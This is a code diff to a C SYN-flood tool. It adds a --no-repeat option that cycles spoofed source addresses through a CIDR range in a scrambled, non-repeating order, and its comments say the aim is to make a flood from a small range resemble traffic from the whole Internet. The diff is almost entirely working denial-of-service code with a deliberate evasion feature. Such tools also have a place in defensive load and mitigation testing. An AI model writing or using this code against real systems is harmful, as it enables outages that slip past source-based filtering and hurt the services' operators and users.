@@ -11,7 +11,10 @@
  *
  * --src-cidr sends each SYN from a random address inside NET/LEN instead (a
  * spoofed-source flood; the network and broadcast addresses are skipped when
- * LEN < 31).
+ * LEN < 31). With --no-repeat the addresses are walked in a scrambled order
+ * that repeats none before the whole range is used, as a flood spoofing from
+ * the whole Internet looks to a small range: a repeat is what a real
+ * client's retransmission looks like, and a small range would make many.
  *
  * Prints "sent=N failed=M elapsed_ms=T" (M: sends the kernel refused, e.g.
  * ENOBUFS; T: from the first send to the last).
@@ -39,7 +42,7 @@ struct syn_packet {
 
 static void usage(void)
 {
-	fprintf(stderr, "usage: syn_flood --src A|--src-cidr NET/LEN --dst B --dport P"
+	fprintf(stderr, "usage: syn_flood --src A|--src-cidr NET/LEN [--no-repeat] --dst B --dport P"
 			" [--count N] [--pps R] [--seconds S]\n");
 	exit(2);
 }
@@ -136,8 +139,11 @@ int main(int argc, char **argv)
 		{ "count", required_argument, NULL, 'c' },
 		{ "pps", required_argument, NULL, 'r' },
 		{ "seconds", required_argument, NULL, 'S' },
+		{ "no-repeat", no_argument, NULL, 'n' },
 		{ NULL, 0, NULL, 0 },
 	};
+	uint32_t walk = 0;
+	int no_repeat = 0;
 	struct sockaddr_in dst = { .sin_family = AF_INET };
 	struct syn_packet pk;
 	struct in_addr src = { 0 };
@@ -173,6 +179,9 @@ int main(int argc, char **argv)
 		case 'S':
 			seconds = parse_ulong("seconds", optarg, 3600);
 			break;
+		case 'n':
+			no_repeat = 1;
+			break;
 		default:
 			usage();
 		}
@@ -187,6 +196,8 @@ int main(int argc, char **argv)
 		return 1;
 	}
 	srandom((unsigned int)(mono_ns() ^ (uint64_t)getpid()));
+	if (src_hosts)
+		walk = random_below(src_hosts);
 
 	memset(&pk, 0, sizeof(pk));
 	pk.ip.version = 4;
@@ -212,8 +223,13 @@ int main(int argc, char **argv)
 		pk.ip.id = htons((uint16_t)random());
 		pk.tcp.source = htons((uint16_t)(1024 + random() % (65536 - 1024)));
 		pk.tcp.seq = htonl((uint32_t)random());
-		if (src_hosts)
+		if (src_hosts && no_repeat) {
+			/* A prime step (coprime with any host count below it) visits each once per round. */
+			walk = (uint32_t)(((uint64_t)walk + 1000003ULL) % src_hosts);
+			pk.ip.saddr = htonl(src_first + walk);
+		} else if (src_hosts) {
 			pk.ip.saddr = htonl(src_first + random_below(src_hosts));
+		}
 		fill_checksums(&pk);
 		if (sendto(fd, &pk, sizeof(pk), 0, (struct sockaddr *)&dst, sizeof(dst)) ==
 		    (ssize_t)sizeof(pk))
